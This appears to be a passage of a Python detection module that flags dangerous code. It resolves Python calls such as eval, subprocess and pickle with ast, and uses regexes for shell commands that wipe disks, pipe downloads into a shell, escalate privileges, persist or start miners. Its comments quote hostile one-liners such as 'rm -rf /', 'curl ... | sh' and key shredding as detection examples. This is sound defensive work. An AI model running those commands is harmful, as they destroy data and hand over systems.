"""Dangerous code in code blocks (and in every block of tool output): Python read with ``ast``
so ``model.eval()`` or a string that mentions ``eval(`` is not a call to ``eval``, aliases
(``import subprocess as sp``) resolve, and shell commands that destroy or fetch-and-run.

Code under analysis is useful but must not become a long-term memory: the policy keeps it in
the working pool (L1) only.
"""

from __future__ import annotations

import ast
from .lazy import re

from ..tree import BLOCK, CODE, MINERS
from .base import CODE as CAT_CODE
from .base import Ctx, Rule, found, has_call, register

# Python calls by resolved dotted name, grouped as Bandit groups them.
_EVAL = {"eval", "exec", "__import__", "builtins.eval", "builtins.exec", "builtins.__import__"}  # B307, B102
_SHELL = {"os.system", "os.popen", "os.execl", "os.execle", "os.execlp", "os.execv", "os.execve", "os.execvp",
          "os.spawnl", "os.spawnv", "os.spawnlp", "os.spawnvp", "commands.getoutput", "pty.spawn"}  # B605, B606
_PICKLE = {"pickle.loads", "pickle.load", "cPickle.loads", "cPickle.load", "_pickle.loads", "dill.loads", "dill.load",
           "marshal.loads", "marshal.load", "shelve.open", "jsonpickle.decode",  # B301, B302
           "yaml.load", "yaml.load_all", "yaml.unsafe_load", "yaml.unsafe_load_all",  # B506 (unless a safe Loader)
           "torch.load",  # B614 (unless weights_only=True): a checkpoint is a pickle
           # pickles by other names: scikit-learn's joblib files, pandas' and cloudpickle's, an Unpickler, and
           # numpy's arrays read with allow_pickle=True
           "joblib.load", "pandas.read_pickle", "cloudpickle.loads", "cloudpickle.load", "pickle.Unpickler",
           "numpy.load"}
_PY_TRIGGERS = ("eval", "exec", "__import__", "system", "popen", "spawn", "subprocess", "pickle", "marshal", "dill",
                "shelve", "getoutput", "pty", "yaml", "torch.load", "__builtins__", "joblib")  # each behind has_call
# Calls that are safe with the right argument: yaml's loaders that build no objects, torch's
# weights-only unpickler, numpy without allow_pickle. Named "<name>:safe" then, so no rule's set holds them.
_SAFE_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}


def _safe_call(name: str, call: ast.Call) -> bool:
    if name in ("yaml.load", "yaml.load_all"):
        loader = next((k.value for k in call.keywords if k.arg == "Loader"), call.args[1] if len(call.args) > 1 else None)
        return loader is not None and (_dotted(loader) or "").rpartition(".")[2] in _SAFE_LOADERS
    if name == "torch.load":
        return any(k.arg == "weights_only" and isinstance(k.value, ast.Constant) and k.value.value is True
                   for k in call.keywords)
    if name == "numpy.load":  # numpy refuses object arrays unless told otherwise
        return not any(k.arg == "allow_pickle" and not (isinstance(k.value, ast.Constant) and not k.value.value)
                       for k in call.keywords)
    return False


def _builtin_lookup(func: ast.AST) -> bool:
    """``getattr(__builtins__, 'ev' + 'al')(...)``: a builtin fetched by a computed name and called
    is eval's way round its own name (a constant name other than eval's, ``getattr(builtins,
    'len')``, is not)."""
    if not (isinstance(func, ast.Call) and _dotted(func.func) == "getattr" and len(func.args) >= 2):
        return False
    owner, attr = _dotted(func.args[0]), func.args[1]
    if owner not in ("__builtins__", "builtins"):
        return False
    return not (isinstance(attr, ast.Constant) and attr.value not in ("eval", "exec", "__import__", "compile"))


def _dotted(expr: ast.AST) -> str | None:
    parts = []
    while isinstance(expr, ast.Attribute):
        parts.append(expr.attr)
        expr = expr.value
    if isinstance(expr, ast.Name):
        parts.append(expr.id)
        return ".".join(reversed(parts))
    return None


def _python_calls(node, ctx: Ctx) -> list[tuple[str, int, int]] | None:
    """(resolved name, start, end) of every call in a code node, or None if it is not Python."""
    key = ("py", node.start, node.end)
    if key in ctx.cache:
        return ctx.cache[key]
    src = ctx.text[node.start : node.end]
    prefix = ""
    if src[:1] in " \t":  # an indented block: parse it inside "if 1:" so offsets stay put
        prefix = "if 1:\n"
    try:
        tree = ast.parse(prefix + src)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        ctx.cache[key] = None
        return None
    aliases: dict[str, str] = {}
    for n in ast.walk(tree):
        if isinstance(n, ast.Import):
            for a in n.names:
                aliases[a.asname or a.name.split(".")[0]] = a.name if a.asname else a.name.split(".")[0]
        elif isinstance(n, ast.ImportFrom) and n.module:
            for a in n.names:
                aliases[a.asname or a.name] = f"{n.module}.{a.name}"
    starts = _line_starts(src)
    shift = 1 if prefix else 0
    out = []
    for n in ast.walk(tree):
        if isinstance(n, ast.Call):
            name = _dotted(n.func)
            if name is None:
                name = "builtins.eval" if _builtin_lookup(n.func) else _imported_attr(n.func, aliases)
                if name is None:
                    continue
            head, _, rest = name.partition(".")
            resolved = aliases.get(head, head) + ("." + rest if rest else "")
            if _safe_call(resolved, n):
                resolved += ":safe"
            a = _offset(src, starts, n.lineno - 1 - shift, n.col_offset)
            b = _offset(src, starts, (n.end_lineno or n.lineno) - 1 - shift, n.end_col_offset or n.col_offset)
            out.append((resolved, node.start + a, node.start + b))
    ctx.cache[key] = out
    return out


def _imported_attr(func: ast.AST, aliases: dict[str, str]) -> str | None:
    """``importlib.import_module('os').system`` (or ``__import__('os').system``) as ``os.system``: a
    module imported by its name in a string is the module."""
    if not (isinstance(func, ast.Attribute) and isinstance(func.value, ast.Call) and func.value.args):
        return None
    inner, arg = _dotted(func.value.func), func.value.args[0]
    if inner is None or not (isinstance(arg, ast.Constant) and isinstance(arg.value, str)):
        return None
    head, _, rest = inner.partition(".")
    if aliases.get(head, head) + ("." + rest if rest else "") not in ("importlib.import_module", "__import__",
                                                                      "builtins.__import__"):
        return None
    return f"{arg.value}.{func.attr}"


def _line_starts(src: str) -> list[int]:
    starts = [0]
    for i, ch in enumerate(src):
        if ch == "\n":
            starts.append(i + 1)
    return starts


def _offset(src: str, starts: list[int], line: int, col_bytes: int) -> int:
    """ast columns count UTF-8 bytes; spans count characters."""
    if line < 0 or line >= len(starts):
        return 0
    s = starts[line]
    end = src.find("\n", s)
    text = src[s : end if end != -1 else len(src)]
    return s + len(text.encode("utf-8")[:col_bytes].decode("utf-8", "ignore"))


def _in_scope(node, ctx: Ctx, prose: bool = False) -> bool:
    """Code blocks always; prose blocks in tool output (a command log is code), and from every
    source for the rules with no harmless reading in prose (``prose``: a download run, a shell
    handed out, a disk wiped). A person's "never run rm -rf / on prod" is a rule worth keeping."""
    return node.kind == CODE or prose or ctx.source == "tool"


_HTML_CODE = re.compile(r"<(code|pre|samp|kbd)\b[^>]*>(.*?)</\1\s*>", re.I | re.S)


def _html_code(ctx: Ctx) -> list[tuple[int, int]]:
    """Spans of HTML code elements (``<pre><code>rm -rf /</code></pre>``): code, as a fence is."""
    spans = ctx.cache.get("html_code")
    if spans is None:
        spans = ctx.cache["html_code"] = [m.span(2) for m in _HTML_CODE.finditer(ctx.text)] if "</" in ctx.text else []
    return spans


def _scoped(node, ctx: Ctx, prose: bool, spans):
    """``spans`` found in ``node`` that count where it stands: all in scope, else those inside an
    HTML code element."""
    if _in_scope(node, ctx, prose):
        yield from spans
        return
    html = _html_code(ctx)
    if html:
        for a, b in spans:
            if any(s <= a and b <= e for s, e in html):
                yield a, b


def _py_rule(names: set[str], prefix: str | None, fallback: re.Pattern[str]):
    def find(node, ctx: Ctx):
        if not _in_scope(node, ctx):
            if _html_code(ctx):
                yield from _scoped(node, ctx, False, (m.span() for m in fallback.finditer(ctx.text, node.start, node.end)))
            return
        calls = _python_calls(node, ctx)
        if calls is None:  # not Python (shell, prose, a fragment): a strict regex instead
            for m in fallback.finditer(ctx.text, node.start, node.end):
                yield m.span()
            return
        for name, a, b in calls:
            if name in names or (prefix and name.startswith(prefix)):
                yield a, b

    return find


for _id, _names, _prefix, _fallback, _why, _bandit in (
    ("code.py_eval", _EVAL, None, r"(?<![\w.])(?:eval|exec|__import__)\s*\(",
     "Python eval/exec/__import__ call", "Bandit B307 eval, B102 exec_used"),
    ("code.py_shell", _SHELL, "subprocess.", r"\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(|\bsubprocess\.\w+\s*\(",
     "Python call that runs a shell or a process (os.system, subprocess.*)",
     "Bandit B602-B607 subprocess, B605 start_process_with_a_shell"),
    ("code.py_deserialize", _PICKLE, None, r"\b(?:c?[pP]ickle|_pickle|marshal|dill|cloudpickle)\.loads?\s*\(|"
     r"\byaml\.unsafe_load\s*\(|\bjoblib\.load\s*\(|\.read_pickle\s*\(|\ballow_pickle\s*=\s*True\b",
     "Python unpickling/unmarshalling of data (pickle.loads, yaml.load without a safe loader, torch.load, joblib.load, "
     "pandas.read_pickle, numpy.load with allow_pickle=True)",
     "Bandit B301 pickle, B302 marshal, B506 yaml_load, B614 pytorch_load"),
):
    register(Rule(id=_id, category=CAT_CODE, sensitivity="", placeholder=None, risk=0.5, binds=(CODE, BLOCK),
                  find=_py_rule(_names, _prefix, re.compile(_fallback)), triggers=_PY_TRIGGERS, guard=has_call, reason=_why,
                  origin=f"{_bandit}; names resolved through imports with ast"))


# A program in another language that starts a shell or a process, as code.py_shell is for Python:
# Node's child_process, PHP's and C's system/passthru/shell_exec/popen/proc_open, Ruby's Open3,
# IO.popen and %x(), Java's Runtime.exec and ProcessBuilder, Go's exec.Command, .NET's
# Process.Start. Code only, even in tool output ("the immune system(s)" is prose there). Much of
# such code parses as Python too ("system(cmd);"): there a match must be a call's own start, not
# words inside a string ('print("call system() carefully")').
_OTHER_SHELL = re.compile(
    r"\brequire\s*\(\s*['\"](?:node:)?child_process['\"]\s*\)|\bfrom\s+['\"](?:node:)?child_process['\"]"
    r"|\bchild_process\.(?:exec|execSync|execFile|execFileSync|spawn|spawnSync|fork)\s*\("
    r"|(?<![\w.$:])(?<!->)(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\("
    r"|\bOpen3\.(?:capture[23e]?|popen[23e]?|pipeline\w*)\b|\bIO\.popen\s*\(|\bKernel\.(?:system|exec|spawn)\b"
    r"|%x\(|\bRuntime\.getRuntime\(\)\s*\.\s*exec\s*\(|\bnew\s+ProcessBuilder\s*\("
    r"|\bexec\.Command(?:Context)?\s*\(|\bProcess\.Start\s*\(")


def _other_shell(node, ctx: Ctx):
    spans = (m.span() for m in _OTHER_SHELL.finditer(ctx.text, node.start, node.end))
    if node.kind != CODE:
        if _html_code(ctx):
            yield from _scoped(node, ctx, False, spans)
        return
    calls = _python_calls(node, ctx)
    starts = None if calls is None else {a for _, a, _ in calls}
    for a, b in spans:
        if starts is None or a in starts:
            yield a, b


register(Rule(id="code.other_shell", category=CAT_CODE, sensitivity="", placeholder=None, risk=0.5, binds=(CODE, BLOCK),
              find=_other_shell, triggers=("child_process", "Open3", "IO.popen", "Kernel.", "%x(", "Runtime.getRuntime",
                                           "ProcessBuilder", "exec.Command", "Process.Start"),
              itriggers=("system", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec"),
              reason="a program that runs a shell or a process (child_process, system(), Runtime.exec, exec.Command, "
                     "Process.Start, ...)",
              origin="Semgrep and CodeQL command-injection sinks per language (javascript child_process, php exec "
                     "family, ruby Open3/IO.popen, java Runtime.exec, go os/exec, csharp Process.Start)"))

# A shell reads r''m, r""m, \rm and s\h as rm and sh, and ${IFS} as a space: a command written so
# is read as the shell reads it (spans mapped back to the text as typed).
_OBFUSCATION = r"[A-Za-z0-9_](?:''|\"\")[A-Za-z0-9_]|\$\{?IFS\b|[A-Za-z]\\[A-Za-z]"
_SHELL_NOISE = re.compile(r"(?<=\w)(?:''|\"\")|(?:''|\"\")(?=\w)|\\(?=[A-Za-z])|\$\{IFS\}|\$IFS\b")


def _shell_view(ctx: Ctx, node) -> tuple[str, list[int]] | None:
    """The node's text as the shell reads it, and each of its characters' offsets in the text;
    None when the shell reads it as typed."""
    key = ("shell_view", node.start, node.end)
    if key in ctx.cache:
        return ctx.cache[key]
    out: list[str] = []
    offs: list[int] = []
    pos = node.start
    for m in _SHELL_NOISE.finditer(ctx.text, node.start, node.end):
        out.append(ctx.text[pos : m.start()])
        offs.extend(range(pos, m.start()))
        if m.group().startswith("$"):  # ${IFS} reads as a space
            out.append(" ")
            offs.append(m.start())
        pos = m.end()
    view = None
    if pos != node.start:
        out.append(ctx.text[pos : node.end])
        offs.extend(range(pos, node.end))
        offs.append(node.end)
        view = ("".join(out), offs)
    ctx.cache[key] = view
    return view


def shell_rule(id: str, rx: re.Pattern[str], triggers: tuple[str, ...], reason: str, origin: str,
               itriggers: tuple[str, ...] = (), prose: bool = False, pattern: str = "",
               code_only: re.Pattern[str] | None = None, check=None, risk: float = 0.6) -> None:
    """``code_only``: forms that are a statement only in code (a fence, an HTML code element),
    words of a sentence elsewhere, whatever the source. ``check(match)``: what a match must also
    hold (the command's arguments read past what a pattern says)."""
    def spans(node, ctx: Ctx):
        yield from (m.span() for m in rx.finditer(ctx.text, node.start, node.end) if check is None or check(m))
        if code_only is not None:
            if node.kind == CODE:
                yield from (m.span() for m in code_only.finditer(ctx.text, node.start, node.end))
            else:
                html = _html_code(ctx)
                for m in code_only.finditer(ctx.text, node.start, node.end) if html else ():
                    if any(s <= m.start() and m.end() <= e for s, e in html):
                        yield m.span()
        view = _shell_view(ctx, node)
        if view is not None:
            text, offs = view
            for m in rx.finditer(text):
                if check is None or check(m):
                    yield offs[m.start()], offs[m.end() - 1] + 1

    def find(node, ctx: Ctx):
        yield from _scoped(node, ctx, prose, spans(node, ctx))

    register(Rule(id=id, category=CAT_CODE, sensitivity="", placeholder=None, risk=risk, binds=(CODE, BLOCK), find=find,
                  triggers=triggers, itriggers=itriggers, trigger=found(_OBFUSCATION + ("|" + pattern if pattern else ""), ascii=True),
                  reason=reason, origin=origin))


# rm with a recursive flag on /, /*, ~, $HOME or a top-level system directory (not ./build); the
# same wipe written with find (-delete or -exec rm on / with no test that narrows it) or with
# Windows' del /s, rd /s or Remove-Item -Recurse on a drive root (C:\, C:\*, %SystemDrive%\).
# /$VAR: / itself when the variable is unset (ShellCheck SC2115)
_ROOT = (r"[\"']?(?:/|/\*|~/?\*?|\$HOME/?\*?|\$\{HOME\}/?\*?|/\$\{?[A-Za-z_]\w*\}?"
         r"|/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var)/?\*?)")
_S = r"(?:\s+|\$\{IFS\}|\$IFS\b)"  # a shell's word break
_WIN_ROOT = r"[\"']?(?:[a-z]:|%systemdrive%)\\(?:\*(?:\.\*)?|windows(?:\\system32)?\\?|users\\?)?[\"']?(?=$|[\s;&|)])"
_WIN_FLAG = r"/[a-z](?::\w+)?"
# rm, its flags (one of them recursive: a lookahead, read once), then what it removes. The flags are
# taken possessively, and "rm" is a word of its own, not a flag's letters ("-rm"): "rm -r -r -r ..."
# and "rm -rm -rm ..." with no target each took quadratic time (14 s and 4.7 s for 32,000 characters).
_RM_R = (r"(?<![\w\-.])rm" + _S + r"(?=(?:-{1,2}[\w-]+" + _S + r")*?-(?:[a-zA-Z]*[rR]|-recursive)[\w-]*" + _S + r")"
         r"(?:-{1,2}[\w-]+" + _S + r")*+")
_END = r"(?=$|[\s;&|)'\"`<])"
shell_rule("code.sh_rm_root", re.compile(
    _RM_R + _ROOT + _END
    # everything here, hidden files too ("rm -rf * .*"), or everything in / ("cd / && rm -rf *")
    + r"|" + _RM_R + r"(?:\*\s+\.\*|\.\*\s+\*)" + _END
    + r"|\bcd\s+[\"']?/[\"']?\s*(?:&&|;|\n)\s*(?:sudo\s+)?" + _RM_R + r"\*" + _END
    # a variable set to / or ~ and then removed ("TARGET=/" ... rm -rf "$TARGET")
    + r"|\b([A-Za-z_]\w*)=[\"']?(?:/|~|\$HOME)[\"']?(?=[\s;&]|$)[\s\S]{0,300}?" + _RM_R
    + r"[\"']?\$(?:\1\b|\{\1\})/?\*?[\"']?" + _END
    # Python's recursive delete of the same: shutil.rmtree("/"), rmtree(os.path.expanduser("~"))
    + r"|\b(?:shutil\.)?rmtree\s*\(\s*(?:[rbu]?" + _ROOT + r"[\"']|(?:os\.path\.)?expanduser\s*\(\s*[\"']~/?[\"']\s*\)"
    r"|(?:pathlib\.)?Path\.home\s*\(\s*\))\s*[,)]"
    + r"|\bfind\s+(?:-[HLP]\s+)*" + _ROOT
    + r"[\"']?(?:\s+(?:-(?:type|mindepth|maxdepth)\s+\w+|-(?:i?name|i?path|mtime|mmin|size|user)\s+"
    r"(?:\"[^\"\n]{1,60}\"|'[^'\n]{1,60}'|[^\s\"']+)|-xdev|-mount|-depth))*"
    r"\s+(?:-delete\b|-exec\s+rm\b)"
    r"|(?i:\b(?:del|erase|rd|rmdir)\s+(?:" + _WIN_FLAG + r"\s+){0,8}/s\s+(?:" + _WIN_FLAG + r"\s+){0,8}" + _WIN_ROOT
    + r"|\b(?:del|erase|rd|rmdir)\s+" + _WIN_ROOT + r"(?:\s+" + _WIN_FLAG + r"){0,8}\s+/s\b"
    r"|\b(?:remove-item|ri)\s+(?:-\w+\s+)*(?:-path\s+)?" + _WIN_ROOT + r"[^\n;|]*?\s-recurse\b"
    r"|\b(?:remove-item|ri)\s+(?:-\w+\s+)*-recurse\b(?:\s+-\w+)*\s+(?:-path\s+)?" + _WIN_ROOT
    # a registry hive, or one of its top keys, deleted whole ("reg delete HKLM\SOFTWARE /f"; an app's
    # own key, "HKCU\Software\MyApp", is an uninstall)
    + r"|\breg(?:\.exe)?\s+delete\s+[\"']?HK(?:LM|CU|CR|U|CC|EY_LOCAL_MACHINE|EY_CURRENT_USER|EY_CLASSES_ROOT|EY_USERS)"
    r"(?:\\(?:software|system|sam|security|\.default)?)?\\?[\"']?(?=$|[\s;&|)]))"
    # the same wipe as a move into the void: "mv ~ /dev/null", "mv /etc /dev/null"
    + r"|\bmv\s+(?:-\w+\s+)*" + _ROOT + r"[\"']?\s+[\"']?/dev/null\b"
    # the user's keys or the system's accounts shredded for good ("shred -u ~/.ssh/id_rsa")
    + r"|\bshred\s+(?:-\S+\s+(?:\d+\s+)?)*[\"']?(?:(?:~|\$HOME|/root|/home/[\w.-]+)/\.ssh/"
    r"|/etc/(?:passwd|shadow|sudoers|group)(?![\w.-]))"),
    ("rm -", "-delete", "-exec rm", ":\\", "rmtree", "/dev/null", "shred"),
    "recursive delete of /, ~, a system directory, a drive root or a registry hive (or moved to /dev/null, or the "
    "SSH keys or account files shredded)",
    "ShellCheck SC2115 (rm -rf \"$var/\" hits /); GNU rm --preserve-root rationale; find -delete, "
    "del /s and rd /s on C:\\ as the same wipe; MITRE ATT&CK T1485 (data destruction) for a hive deleted, a tree "
    "moved to /dev/null, keys shredded", itriggers=("%systemdrive%", "reg delete", "reg.exe delete"))
# A download, or a payload decoded from base64, run as a program: piped into a shell or an
# interpreter, fed to one through process substitution, or saved, made executable and run.
# An interpreter reads the pipe as its program only when it has no program of its own: "| python3"
# and "| python3 -" run the download, "| python3 -m json.tool" and "| perl -ne '...'" read it as data.
_SH = r"(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|z|k|da|fi)?sh\b"
# (in a sentence the command ends at "and", "then", a comma or a full stop: "... | python3 and reboot")
_INTERP = (r"(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:python[23]?(?:\.\d+)?|perl|ruby|node(?:js)?|php)"
           r"(?:\s+-(?!-?(?:[a-zA-Z]*[cmenprEFR][a-zA-Z]*|eval|print|command)\b)[\w-]*)*\s*"
           r"(?=$|[;&|)\n]|[.,](?!\w)|\s+(?:and|then)\b)")
# What turns text back into a program: base64 -d, xxd -r, openssl base64 -d, printf/echo -e of \x escapes
_DECODE = (r"(?:\bbase64\s+(?:-\w+\s+){0,6}(?:-d|-D|--decode)\b|\bxxd\s+(?:-\w+\s+)*-r\b"
           r"|\bopenssl\s+(?:enc\s+)?-?(?:base64|a)\b[^\n|;]{0,1000}\s-d\b|\b(?:printf|echo\s+-e)\s+[\"']?(?:\\x[0-9a-fA-F]{2}){2})")
_RUN = r"(?:(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|source|\.|python[23]?(?:\.\d+)?|perl|ruby|node|php)\s+(?:-\S+\s+)*)"
# (each stretch of a command line read at most 500 characters on: "curl ... " 640 times on one line
# of 32,000 characters, no pipe, took 0.9 s read to the line's end from every curl)
shell_rule("code.sh_pipe_to_shell", re.compile(
    # through tee or cat on the way: "curl ... | tee /tmp/a | sh"
    r"\b(?:curl|wget|fetch)\b[^\n|;]{0,500}(?:\|\s*(?:sudo\s+)?(?:tee|cat)\b[^\n|;]{0,500})*\|\s*(?:" + _SH + "|" + _INTERP + ")"
    + r"|" + _DECODE + r"[^\n|;]{0,200}\|\s*(?:" + _SH + "|" + _INTERP + ")"
    # eval "$(echo ... | base64 -d)", bash -c "$(... | xxd -r -p)"; or the decoded text the command
    # itself: a line (or a statement) that is only "$(echo ... | base64 -d)" runs what it decodes
    + r"|\b(?:eval|(?:ba|z)?sh\s+-c)\s*[\"']?\s*\$\([^)\n]{0,300}?" + _DECODE
    + r"|(?<![^\n;&|(])[ \t]*(?:\$\(|`)[^)`\n]{0,300}?" + _DECODE
    + r"|(?:\b(?:(?:ba|z)?sh|python[23]?(?:\.\d+)?|perl|ruby|node|php|source)|(?<![\w.])\.)\s+(?:-[ce]\s+)?[\"']?\s*[<$]\(\s*"
    r"(?:curl|wget)\b"
    # saved to a file and the file run: "curl URL > a.sh && bash a.sh", "wget URL/a.sh && sh a.sh"
    r"|\b(?:curl|wget)\b[^\n;&|]{0,500}?(?:>\s*|\s-o\s*|\s--output[=\s]\s*|\s-O\s+)[\"']?(?P<out>[\w./~$-]+)[\"']?[^\n]{0,100}?"
    r"(?:&&|;|\n)\s*" + _RUN + r"[\"']?(?:\./)?(?P=out)(?=$|[\s;&|)])"
    r"|\b(?:curl|wget)\b[^\n;&|]{0,500}?\b(?:https?|ftp)://[^\s\"'/]+/(?:[^\s\"']*/)?(?P<name>[\w.-]+)[\"']?[^\n]{0,100}?"
    r"(?:&&|;|\n)\s*" + _RUN + r"[\"']?(?:\./)?(?P=name)(?=$|[\s;&|)])"
    # Python running what it fetched: exec(urlopen(url).read()), exec(requests.get(url).text)
    r"|\b(?:exec|eval)\s*\(\s*(?:[\w.]*\burlopen|requests\.get|httpx\.get)\s*\("
    r"|\b(?:curl|wget)\b[\s\S]{0,300}?\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwX]*x[rwX]*|[0-7]?[1357][0-7]{2})\s+"
    r"[\"']?(?P<exe>[\w./~$-]+)[\"']?[^\n]{0,100}?(?:&&|;|\n)\s*(?:sudo\s+)?(?:\./)?(?P=exe)(?=$|[\s;&|)])"),
    ("curl", "wget", "base64", "xxd", "\\x", "urlopen", "requests.get", "httpx.get"),
    "download or decoded payload run as a program (curl ... | sh, base64 -d | sh, download, chmod +x, run)",
    "Semgrep bash.curl.security.curl-pipe-bash; MITRE ATT&CK T1105, T1140 (deobfuscate and run)",
    itriggers=("openssl",), prose=True)
# ... and the whole system handed over or locked: a recursive chmod, chown or chgrp of / itself
shell_rule("code.sh_chmod_777", re.compile(
    r"\bchmod\s+(?:-[a-zA-Z]+\s+)*(?:0?777|a\+rwx|ugo\+rwx|o\+w)(?=$|\s)"
    r"|\b(?:chmod|chown|chgrp)\s+(?:-\w+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\w+\s+)*[^\s;&|]+\s+[\"']?/\*?[\"']?"
    r"(?=$|[\s;&|)])"
    # every permission taken from what the system runs on: "chmod 000 /etc/passwd", "chmod 0 /usr/bin/sudo"
    r"|\bchmod\s+(?:-\w+\s+)*(?:0{1,4}|a-rwx|ugo-rwx)\s+[\"']?(?:/etc/(?:passwd|shadow|group|sudoers|pam\.d)"
    r"|(?:/usr)?/s?bin(?:/[\w.-]+)?|/lib\w*|/boot|/)[\"']?(?=$|[\s;&|)])"), ("chmod", "chown", "chgrp"),
    "world-writable permissions (chmod 777), a recursive chmod/chown of /, or a system file's permissions all taken",
    "Semgrep/ShellCheck guidance on world-writable files (CWE-732); GNU coreutils --preserve-root")
# ... or every process, every cron job at once, or a key let in for good: kill with a signal to
# pid -1 (every process the user may signal) or killall5, crontab -r (the table removed, no
# prompt), and a public key appended to an authorized_keys file (a login that outlives the
# password). "kill -9 1234", "kill -1 1234" (SIGHUP to 1234), "crontab -l", reading the file are not.
shell_rule("code.sh_system_takeover", re.compile(
    r"\bkill\s+-(?:9|15|KILL|SIGKILL|TERM|SIGTERM|s\s+(?:9|KILL|SIGKILL|TERM|SIGTERM))\s+-1(?=$|[\s;&|)])|\bkillall5\b"
    r"|\bcrontab\s+(?:-u\s+\S+\s+)?-[a-zA-Z]*r[a-zA-Z]*(?=$|[\s;&|)])"
    r"|(?:>>|\btee\s+(?:-\w+\s+)*-[a-zA-Z]*a[a-zA-Z]*\s+(?:-\w+\s+)*)\s*[\"']?"
    r"(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+)?/?\.ssh/authorized_keys2?\b"
    # an account or a rule appended to the system's own tables: a user with uid 0, sudo for all
    r"|(?:>>?|\btee\s+(?:-\w+\s+)*)\s*[\"']?"
    r"/etc/(?:passwd|shadow|sudoers(?:\.d/[\w.-]+)?)\b"
    # a program set to start at every logon on Windows: a Run key, a task on logon or start
    r"|(?i:\breg(?:\.exe)?\s+add\s+[\"']?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE)\\\\?Software\\\\?"
    r"(?:WOW6432Node\\\\?)?Microsoft\\\\?Windows\\\\?CurrentVersion\\\\?Run(?:Once)?\b"
    r"|\bschtasks(?:\.exe)?\s+/create\b[^\n|;]{0,300}?/sc\s+(?:onlogon|onstart)\b)"
    # a second root: an account made or changed to uid 0, a shell made setuid, a container given the host's /
    r"|\b(?:useradd|adduser|usermod)\b[^\n;&|]{0,100}?\s-(?:[a-zA-Z]*u|-uid)[=\s]*0(?=$|[\s;&|)])"
    r"|\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*s[rwx]*|[246][0-7]{3})\s+[\"']?(?:/usr)?(?:/local)?/s?bin/"
    # (a shell, or a program that starts one for whoever runs it: GTFOBins' setuid list)
    r"(?:(?:ba|z|da|k|fi)?sh|find|vim?|nano|less|more|awk|gawk|python[23]?(?:\.\d+)?|perl|ruby|node|php|env|tar|cp|"
    r"nmap|xargs|nice|taskset|busybox)\b"
    r"|\b(?:docker|podman)\s+run\b[^\n;&|]{0,300}?\s(?:-v|--volume)[=\s]*[\"']?/:/"
    r"|\b(?:docker|podman)\s+run\b[^\n;&|]{0,300}?\s--privileged\b[^\n;&|]{0,300}?\bnsenter\s+(?:-\S+\s+)*-t\s*1\b"
    r"|\bpasswd\s+(?:-\w+\s+)*-d\s+root\b"
    # the host's own namespaces entered from a container (pid 1's mount namespace: its whole /), a
    # library preloaded into every program the system starts
    r"|\bnsenter\s(?=[^\n;&|]{0,120}?(?:-t\s*|--target[=\s]+)1(?=\s|$))"
    r"(?=[^\n;&|]{0,120}?(?:\s-[a-zA-Z]*[am][a-zA-Z]*(?=\s|$)|--mount\b|--all\b))"
    r"|(?:>>?|\btee\s+(?:-\w+\s+)*)\s*[\"']?/etc/ld\.so\.preload\b"
    # (a pod of the host's own: its process table or every device given to a shell, the one-liner
    # escape "kubectl run x --overrides='{... "hostPID": true ... "privileged": true ...}'")
    r"|\bkubectl\s+run\b[^\n;&|]{0,300}?--overrides\b[^\n]{0,600}?[\"']?(?:hostPID|privileged)[\"']?\s*:\s*true\b"
    r"|\bkubectl\s+create\s+clusterrolebinding\b[^\n;&|]{0,300}?--clusterrole[=\s]+cluster-admin\b"
    # ... and in a cloud account: the administrator policy attached, the owner role granted
    r"|\baws\s+iam\s+attach-(?:user|role|group)-policy\b[^\n;&|]{0,300}?policy/AdministratorAccess\b"
    r"|\bgcloud\s+(?:projects|organizations)\s+add-iam-policy-binding\b[^\n;&|]{0,300}?--role[=\s]+roles/owner\b"
    # ... and its processors lent to someone else: a cryptominer started on a pool
    r"|(?:(?m:^)|[;&|]\s*|\b(?:nohup|sudo|exec|screen\s+-dm\S*)\s+|[./])"
    r"(?:" + "|".join(MINERS) + r")(?:\.exe)?\b"
    r"[^\n;&|]{0,200}?(?:\s(?:-o|--url|-u|--user|--pool|-p)\b|stratum\+(?:tcp|ssl|tls)://)"
    # ... and in a database: every privilege on every database granted, a role made superuser
    r"|(?i:\bgrant\s+all(?:\s+privileges)?\s+on\s+\*\.\*\s+to\b"
    r"|\b(?:alter|create)\s+(?:user|role)\s+[\w\"`'.@%-]+\s+(?:with\s+)?(?:[\w\s]{0,60}?\s)?superuser\b)"),
    ("kill", "crontab", "authorized_keys", "/etc/passwd", "/etc/shadow", "/etc/sudoers", "useradd", "adduser",
     "usermod", "chmod", "docker", "podman", "aws iam", "add-iam-policy-binding", "passwd -d", "clusterrolebinding",
     "*.*", "SUPERUSER", "superuser", "> /etc/", ">/etc/", "tee /etc/", *MINERS, "stratum+", "nsenter",
     "--overrides"),
    "every process killed (kill -9 -1), every cron job removed (crontab -r), a key, an account or a sudo rule "
    "appended (authorized_keys, /etc/passwd, /etc/sudoers), a program started at every logon (Run key, schtasks), "
    "or a second root (a uid 0 account, a setuid shell, the host's / in a container, a cloud administrator role, "
    "a database superuser, the host's namespaces entered from a container or a pod given them, /etc/ld.so.preload "
    "written), or a cryptominer started",
    "MITRE ATT&CK T1098.004 (SSH authorized keys), T1489 (service stop), T1053.003 (cron), T1547.001 (Run keys), "
    "T1053.005 (scheduled task), T1548.001 (setuid, GTFOBins), T1611 (escape to host), T1574.006 (ld.so.preload), "
    "T1496 (resource hijacking); kill(1) on pid -1",
    itriggers=("reg add", "reg.exe add", "schtasks"))
# The system's defences turned off or its traces wiped: SELinux off, a firewall disabled or its
# rules flushed, Defender's monitoring turned off or a path excluded from it, auditing stopped,
# the shell's history cleared or unset, the system's own logs emptied (MITRE ATT&CK T1562 impair
# defenses, T1070 indicator removal). An app's own log truncated, "iptables -L", "ufw enable",
# "setenforce 1" and "history | grep" are not.
